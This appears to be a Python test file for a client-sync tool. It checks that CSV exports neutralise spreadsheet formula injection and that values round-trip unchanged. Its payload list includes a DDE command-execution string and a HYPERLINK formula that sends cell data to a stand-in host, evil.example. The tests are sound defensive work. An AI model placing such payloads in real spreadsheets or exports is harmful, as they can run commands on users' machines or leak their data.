"""A spreadsheet evaluates nothing in an exported CSV, and every text is read back unchanged."""

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clientsync_tui.sync.files import codes, codes_file, export
from clientsync_tui.sync.files.csv_cells import defused, plain, without_formula
from tests.support.clients import add, signed_in, workplace_in

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+44 20 7946 0000",
    "-5 Ltd",
    "@SUM(1+1)",
    "＝1+1",
    "'=1+1",
    "''@x",
    "Foo;=1+1",
    "Foo;'-1;+2",
]

_ODD = st.text("=+-@'\t\r\n;, ab＝\"", max_size=12)


@settings(max_examples=200, deadline=None)
@given(st.one_of(_ODD, st.text(max_size=20), st.sampled_from(FORMULAS)))
def test_every_text_is_defused_and_comes_back(text: str):
    assert plain(defused(text)) == text
    for cell in (defused(text), without_formula(text)):
        for divided in (cell, *re.split(r"[;\t\r\n]", cell)):
            assert not divided.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
        assert not cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(
    "text",
    [
        "Abbey Road Bakery Ltd",
        "ABB01",
        "123",
        "JUL",
        "24/7 Plumbing",
        "c0123456789abcde",
        "O'Neil & Sons",
        "'Allo 'Allo",
        "A-B",
        "x=1",
        "",
        "a@b.c",
    ],
)
def test_ordinary_text_stays_unchanged(text: str):
    assert defused(text) == text == plain(text)


def test_export_is_defused_and_our_own_import_reads_it_unchanged(tmp_path: Path):
    workplace = workplace_in(tmp_path)
    store = workplace.store
    ann = signed_in(store, "=ann@example.com")
    ids = {add(store, name, ann, code=f"-{n}", team=f"@{n}"): name for n, name in enumerate(FORMULAS)}
    file = tmp_path / "clients.csv"
    clients = store.clients.each([n + 1 for n in range(len(ids))], datetime.now(UTC))
    assert export.export(file, clients, workplace.own_files, replace=False).clients == len(ids)
    text = codes_file.read(file)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    read = codes_file.lines(text)
    assert {line.id: line.client for line in read} == ids
    assert [line.code for line in read] == [f"-{n}" for n in range(len(ids))]
    planned = codes.plan(text, store)
    assert (planned.changes, planned.unchanged) == ((), len(ids)), "nothing is to be changed"
    workplace.close()
